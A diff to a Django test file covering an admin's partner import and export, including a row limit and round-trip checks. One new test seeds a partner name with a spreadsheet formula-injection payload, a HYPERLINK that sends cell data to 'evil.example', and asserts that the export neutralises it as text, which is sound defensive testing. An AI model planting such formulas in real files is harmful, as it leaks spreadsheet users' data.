@@ -1,3 +1,5 @@
+import datetime
+
 import pytest
 import tablib
 from django.urls import reverse
@@ -54,14 +56,12 @@ def test_staff_see_import_and_export_in_the_admin(staff_client, locality):
 
 
 def test_the_admin_refuses_a_file_too_large_for_one_request_before_reading_a_row(staff_client, locality, monkeypatch):
-    """The admin imports inside the request (about 12 ms a row, ADMIN_IMPORT_MAX_ROWS = 1,000): a larger file is
+    """The admin imports inside the request (about 12 ms a row, at most 1,000 rows): a larger file is
     refused with a message that points to the portal's import, which runs as a background job."""
     from django.core.files.uploadedfile import SimpleUploadedFile
 
-    from networks import admin
-
-    assert admin.ADMIN_IMPORT_MAX_ROWS == 1_000
-    monkeypatch.setattr(admin, "ADMIN_IMPORT_MAX_ROWS", 3)
+    assert PartnerResource.max_rows == 1_000
+    monkeypatch.setattr(PartnerResource, "max_rows", 3)
     rows = [["kajaani", "venue", f"Kohde {number}", "205", "culture", "", "2025-01-01", "1"] for number in range(4)]
     content = "\n".join(",".join(row) for row in [HEADERS, *rows]).encode()
     response = staff_client.post(
@@ -144,3 +144,58 @@ def test_inline_contacts_saved_in_the_admin_are_recorded_and_versioned(staff_cli
     old.refresh_from_db()
     assert (old.name, old.version) == ("Uusi nimi", 2)
     assert old.history.latest().history_user == staff
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_the_admin_export_writes_formula_like_text_as_text(staff_client, locality, file_format):
+    """A coordinator's `=HYPERLINK(…)` reaches staff's spreadsheet as text, never as a live formula: the
+    admin's export goes through the portal's writers and their one neutralising rule."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from networks.admin import PartnerResource
+
+    PartnerFactory(locality=locality, name='=HYPERLINK("http://evil.example/?"&A1,"Klikkaa")', address="@SUM(1)")
+    fields = PartnerResource().get_export_order()
+    response = staff_client.post(
+        reverse("admin:networks_partner_export"),
+        {"format": {"csv": "0", "xlsx": "1"}[file_format], "resource": "0"}
+        | {f"partnerresource_{name}": "on" for name in fields},
+    )
+    assert response.status_code == 200, response.content[:500]
+    assert response["Content-Type"].startswith({"csv": "text/csv", "xlsx": "application/vnd.openxml"}[file_format])
+    if file_format == "csv":
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    else:
+        workbook = load_workbook(io.BytesIO(response.content))
+        assert not any(cell.data_type == "f" for row in workbook.active.iter_rows() for cell in row)
+        rows = [["" if value is None else value for value in row] for row in workbook.active.values]
+    record = dict(zip(rows[0], rows[1], strict=True))
+    assert record["name"] == """'=HYPERLINK("http://evil.example/?"&A1,"Klikkaa")"""
+    assert record["address"] == "'@SUM(1)"
+    assert record["locality"] == "kajaani"
+
+
+@pytest.mark.parametrize(("file_format", "index"), [("csv", "0"), ("xlsx", "1")])
+def test_an_admin_export_imports_again_unchanged(staff_client, locality, file_format, index):
+    """The bounded reader gives django-import-export what its own readers gave: dates, numbers and the
+    neutralised text of an exported file come back as they were."""
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    PartnerFactory(locality=locality, name="=Teatteri", joined_on=datetime.date(2024, 3, 1), listed_publicly=True)
+    fields = PartnerResource().get_export_order()
+    exported = staff_client.post(
+        reverse("admin:networks_partner_export"),
+        {"format": index, "resource": "0"} | {f"partnerresource_{name}": "on" for name in fields},
+    ).content
+    response = staff_client.post(
+        reverse("admin:networks_partner_import"),
+        {"resource": "0", "format": index, "import_file": SimpleUploadedFile(f"p.{file_format}", exported)},
+    )
+    assert response.status_code == 200
+    assert not response.context["form"].errors
+    result = response.context["result"]
+    assert not result.has_errors() and not result.has_validation_errors()
+    assert [row.import_type for row in result.rows] == ["skip"]
